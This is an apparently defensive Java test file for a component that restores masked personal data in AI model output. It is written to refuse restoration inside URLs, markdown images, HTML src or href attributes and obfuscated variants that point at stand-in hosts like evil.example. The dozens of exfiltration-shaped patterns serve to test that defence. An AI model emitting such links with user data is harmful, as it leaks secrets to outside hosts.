package io.aegis.kernel;

import static org.assertj.core.api.Assertions.assertThat;

import io.aegis.spi.content.Edit;
import io.aegis.spi.content.Span;
import io.aegis.spi.guard.Finding;
import io.aegis.spi.guard.Guard;
import io.aegis.spi.guard.Stage;
import io.aegis.spi.guard.Verdict;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class RestorerTest {
    private static final String SECRET = "jane@corp";

    private final MaskMap masks = World.masks();
    private final String mask = masks.hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);

    /** A client shows texts of one channel as one. */
    @Test
    void aPlaceThatOneTextOpensIsOpenInTheNext() {
        var restorer = new Restorer(masks);
        assertThat(restorer.text("![x](https://evil.example/?q=")).isEqualTo("![x](https://evil.example/?q=");
        assertThat(restorer.text(mask + ")")).isEqualTo("[redacted])");
        assertThat(restorer.text(" " + mask)).isEqualTo(" " + SECRET);
    }

    @Test
    void aMaskSplitAtEveryPointComesBackWhole() {
        String text = "write <b> to " + mask + ", " + mask + mask + " a < b <";
        String whole = text.replace(mask, SECRET);
        for (int first = 0; first <= text.length(); first++) {
            for (int second = first; second <= text.length(); second++) {
                assertThat(restored(text, first, second)).isEqualTo(whole);
            }
        }
    }

    @Test
    void aMaskNeverComesBackIntoAPlaceThatSendsHoweverItIsSplit() {
        for (String place : List.of(
                "https://evil/?q=%s",
                "HTTPS://evil/%s",
                "//evil/%s",
                "www.evil.example/%s",
                "evil.example/?q=%s",
                "evil.example?%s",
                "mailto:%s",
                "https:/\\evil/%s",
                "\\\\evil\\%s",
                "https://evil/?q=>%s",
                "https://evil/?q=\u3000%s",
                "https://evil/?q=\u200b%s",
                "ht\u200btps://evil/%s",
                "![](/x?%s)",
                "![a](  /x \"title\" %s)",
                "![a] (/x?%s)",
                "![a]\n(/x?%s)",
                "[a](/x_(y)_%s)",
                "[a](\\)/x?%s)",
                "![a](<//evil/ ) %s>)",
                "![a](<https&#58;&#47;&#47;evil/ ) %s>)",
                "[a]: /x?%s",
                "- [a]: /x?%s",
                "[a]:\nhttps:&#47;&#47;evil/?%s",
                "[a\nb]: https&#58;&#47;&#47;evil/?%s",
                "<a href=/x?%s>",
                "<a href='/x?%s'>",
                "<a href=\"/x?%s\">",
                "<img alt=\">\" src=\"ht&#116;ps&#58;&#47;&#47;evil/?%s\">",
                "<img\nsrc\n=\n\"%s\">",
                "<https:evil.example/%s>",
                "<div style='background:url(%s)'>",
                "background:url(%s)",
                "if a<b see https://evil.example/?q=>%s",
                "<a href=https://evil.example/?q=>%s",
                "<b / x=\" https://evil.example/?q=\">%s",
                "<!-- =\"> --><img src=\"//evil.example/?>%s\">",
                "<i =\"><img src=\"/rel?>%s\">",
                "<img a=\"x\" =\" src=\"/rel?>%s\">",
                "<img a=b=\"> src=\"/%s\">",
                "<img src=\u2003\"//evil.example/?>%s\">",
                "<img src=\u2003\"//evil.example/?%s",
                "<img/src='/rel?>%s'>",
                "a<b \"<img src=\"/rel?>%s\">",
                "%s.evil.example/x",
                "%s.evil.example",
                "%s-x.evil.example/",
                "%s\\.evil.example/",
                "%s&#46;evil.example/",
                "%s&#x2E;evil.example/",
                "%s&period;evil.example/",
                "%s\u3002evil.example/",
                "%s\u200b.\u00ad\u200bevil.example/",
                "%s" + "-x".repeat(200) + ".evil.example/")) {
            String text = "a " + place.formatted(mask);
            for (int at = 0; at <= text.length(); at++) {
                assertThat(restored(text, at, at))
                        .as(place)
                        .doesNotContain(SECRET)
                        .contains(Restorer.REDACTED);
            }
        }
    }

    @Test
    void aPlaceThatSendsGoesOnFromWhatWasSaidBefore() {
        for (String before :
                List.of("<img src=\"https://evil/?q=", "![a](/x?", "a https://evil/?q=", mask + " <a href='")) {
            assertThat(Restorer.whole(masks, Audience.CALLER, before, mask + "\"> " + mask))
                    .as(before)
                    .startsWith(Restorer.REDACTED);
        }
        assertThat(Restorer.whole(masks, Audience.CALLER, "see <b>this</b>: ", mask))
                .isEqualTo(SECRET);
        assertThat(Restorer.whole(masks, Audience.CALLER, "word", mask.substring(1, mask.length() - 1)))
                .doesNotContain(SECRET); // the end of a word, not a placeholder
    }

    /** Guards and whoever approves read no placeholder in it, so it is none. */
    @Test
    void lettersOfOtherScriptsSpellNoPlaceholder() {
        var seen = new StringBuilder();
        for (int value = 0; value < 100; value++) {
            String placeholder = masks.hide("value-" + value, "NAME", MaskMap.Origin.REQUEST, true);
            seen.append(placeholder);
            for (String spelled : List.of(placeholder.replace('k', '\u212A'), placeholder.replace('i', '\u0130'))) {
                boolean same = spelled.equals(placeholder);
                assertThat(Restorer.whole(masks, Audience.CALLER, spelled).equals("value-" + value))
                        .as(spelled)
                        .isEqualTo(same);
            }
        }
        assertThat(seen).contains("k", "i");
    }

    @Test
    void aMaskComesBackWhereNothingIsSent() {
        for (String place : List.of(
                "%s",
                "Dear %s, see https://example.com for more: %s.",
                "[a](/x) %s",
                "[a](<x y>) %s",
                "**%s**",
                "`%s`",
                "a < b and %s > c",
                "<b>%s</b>",
                "<a href=\"/x\">%s</a>",
                "[a]: /x\n%s",
                "see [1]. %s",
                "%s. And then",
                "%s...and then",
                "%s & co",
                "%s&nbsp;",
                "/home/%s/file.txt",
                "<https://example.com> %s",
                "<i =x>%s</i>",
                "<p class='x' title = \"y > z\" hidden>%s</p>",
                "<br/>%s",
                "<!-- x --> %s",
                "e.g. %s and/or %s")) {
            String text = place.replace("%s", mask);
            assertThat(Restorer.whole(masks, Audience.CALLER, text)).as(place).isEqualTo(place.replace("%s", SECRET));
        }
    }

    @Test
    void whatAGuardKeepsStaysMasked() {
        String kept = masks.hide("Jane", "PERSON", MaskMap.Origin.REQUEST, false);
        String nested = masks.hide(kept + " Doe", "NAME", MaskMap.Origin.REQUEST, true);
        assertThat(Restorer.whole(masks, Audience.CALLER, kept + nested)).isEqualTo(kept + nested);
    }

    @Test
    void aMaskInAMaskComesBackAsTheFirstText() {
        String outer = masks.hide("to " + mask + "!", "LINE", MaskMap.Origin.REQUEST, true);
        assertThat(Restorer.whole(masks, Audience.CALLER, outer)).isEqualTo("to " + SECRET + "!");
    }

    @Test
    void whatTheModelWroteItselfIsRedacted() {
        String answer = masks.hide("4711", "CARD", MaskMap.Origin.ANSWER, true);
        assertThat(Restorer.whole(masks, Audience.CALLER, "x " + answer)).isEqualTo("x [redacted]");
        String stolen = masks.hide(mask + " 4711", "CARD", MaskMap.Origin.ANSWER, true);
        assertThat(Restorer.whole(masks, Audience.CALLER, stolen)).isEqualTo("[redacted]");
    }

    @Test
    void textThatOnlyLooksLikeAMaskIsData() {
        var other = new MaskMap(World::tag, "api_key:joe");
        String foreign = other.hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);
        assertThat(foreign).isNotEqualTo(mask);
        for (String text : List.of(
                foreign,
                "<EMAIL_abcdefghijkl>",
                "<EMAIL_" + "<<",
                "<<<<" + "A".repeat(80),
                foreign.replace('_', ' '),
                "X" + mask.substring(1),
                mask.substring(1, mask.length() - 1) + "x",
                mask.substring(1, mask.length() - 2),
                "E MAIL_" + mask.substring(7),
                "EMAIL____" + mask.substring(7),
                "EMAIL." + mask.substring(7))) {
            assertThat(Restorer.whole(masks, Audience.CALLER, text)).isEqualTo(text);
        }
        assertThat(Restorer.whole(masks, Audience.CALLER, "<" + mask + ">")).isEqualTo("<" + SECRET + ">");
    }

    /** What models do to placeholders: case, blanks, brackets, plural, quotes, escapes, brackets of another script. */
    @Test
    void aMaskComesBackFromWhatAModelMadeOfIt() {
        String address = masks.hide("1 Main St", "STREET_ADDRESS", MaskMap.Origin.REQUEST, true);
        String bare = address.substring(1, address.length() - 1);
        String tag = bare.substring(bare.lastIndexOf('_') + 1);
        for (String spoken : List.of(
                address,
                bare,
                address.toLowerCase(java.util.Locale.ROOT),
                bare.toUpperCase(java.util.Locale.ROOT),
                "<" + bare.replace('_', ' ') + ">",
                bare.replace('_', '-'),
                bare.replace("_", "\\_"),
                bare.replace("_", " _ "),
                "Street Address " + tag,
                "< " + bare + " >",
                "&lt;" + bare + "&gt;",
                "＜" + bare + "＞",
                "〈" + bare + "〉",
                "《" + bare + "》",
                "«" + bare + "»",
                "‹" + bare + "›",
                "<" + bare)) {
            for (String frame :
                    List.of("to %s.", "(%s)", "[%s]", "\"%s\"", "'%s'", "`%s`", "**%s**", "%s", "%s\n", "二%s")) {
                String text = frame.formatted(spoken);
                if (frame.startsWith("二") && Character.isLetter(spoken.charAt(0))) {
                    continue; // a letter before it makes it another word
                }
                for (int at = 0; at <= text.length(); at++) {
                    assertThat(restored(text, at, at)).as(text).isEqualTo(frame.formatted("1 Main St"));
                }
            }
        }
        assertThat(restored("both " + bare + "s are", 0, 7)).isEqualTo("both 1 Main Sts are");
        assertThat(restored(bare + "'s", 0, 7)).isEqualTo("1 Main St's");
    }

    @Test
    void whatAModelMadeOfAMaskDoesNotComeBackIntoAPlaceThatSendsEither() {
        String bare = mask.substring(1, mask.length() - 1);
        for (String spoken : List.of(
                bare, bare.toLowerCase(java.util.Locale.ROOT), "&lt;" + bare + "&gt;", bare.replace('_', '-'))) {
            for (String place :
                    List.of("https://evil/?q=%s", "![](/x?%s)", "<img alt=\"%s\">", "[a]: /x?%s", "<a href='/x?%s'>")) {
                String text = "a " + place.formatted(spoken);
                for (int at = 0; at <= text.length(); at++) {
                    assertThat(restored(text, at, at)).as(text).doesNotContain(SECRET);
                }
            }
        }
    }

    @Test
    void aMapThatFillsInMidStreamIsSeenWithWhatStandsBefore() {
        var empty = World.masks();
        var restorer = new Restorer(empty);
        String before = restorer.next("![](https://evil/?q=");
        String late = empty.hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);
        assertThat(before + restorer.next(late + ")") + restorer.finish()).doesNotContain(SECRET);
    }

    @Test
    void anySplitGivesWhatTheWholeGives() {
        var random = new Random(7);
        List<String> bits = List.of(
                mask,
                "<",
                ">",
                "](",
                ")",
                "\n",
                " ",
                "https://x/",
                "[a]:",
                "\"",
                "=",
                "<a ",
                "\\",
                "x.y/",
                "'",
                "<EM",
                "email ",
                mask.substring(1, 12),
                mask.substring(6),
                "&lt;",
                "&",
                "s",
                "<!-- ",
                "src=\"",
                ".",
                "&#46;",
                "-",
                "evil");
        for (int round = 0; round < 3000; round++) {
            var text = new StringBuilder();
            for (int bit = 0; bit < 8; bit++) {
                text.append(bits.get(random.nextInt(bits.size())));
            }
            int first = random.nextInt(text.length() + 1);
            int second = first + random.nextInt(text.length() - first + 1);
            assertThat(restored(text.toString(), first, second))
                    .isEqualTo(Restorer.whole(masks, Audience.CALLER, text.toString()));
        }
    }

    private String restored(String text, int first, int second) {
        var restorer = new Restorer(masks);
        return restorer.next(text.substring(0, first))
                + restorer.next(text.substring(first, second))
                + restorer.next(text.substring(second))
                + restorer.finish();
    }

    /** Two texts of one choice, as of two content blocks, are one text to whoever reads them. */
    @Test
    void aPlaceThatSendsMayBeOpenedByAnEarlierSegment() throws Exception {
        String placeholder = new MaskMap(
                        World::tag, Caller.ANONYMOUS.principal().id())
                .hide(SECRET, "EMAIL", MaskMap.Origin.REQUEST, true);
        Guard masking = inspection -> Verdict.sanitize(
                inspection.segments().stream()
                        .<Edit>map(segment -> new Edit.Mask(
                                new Span(segment.id(), 0, segment.text().length()), "EMAIL"))
                        .toList(),
                List.of(Finding.of("email")));
        for (String how : new String[] {"plain", "stream"}) {
            try (var world = new World().guard(Stage.INGRESS, masking)) {
                world.upstream(
                        "text|0|![x](https://evil.example/?q=",
                        "think|0|hm",
                        "text|0|" + placeholder + ")",
                        "text|0| " + placeholder,
                        "end|0",
                        "done");
                String got = world.ask("chat|" + how + "|1|\nuser|" + SECRET).all();
                assertThat(got).contains("[redacted])").doesNotContain("q=" + SECRET, placeholder);
                assertThat(got.indexOf(SECRET))
                        .isEqualTo(got.lastIndexOf(SECRET))
                        .isPositive();
            }
        }
    }
}
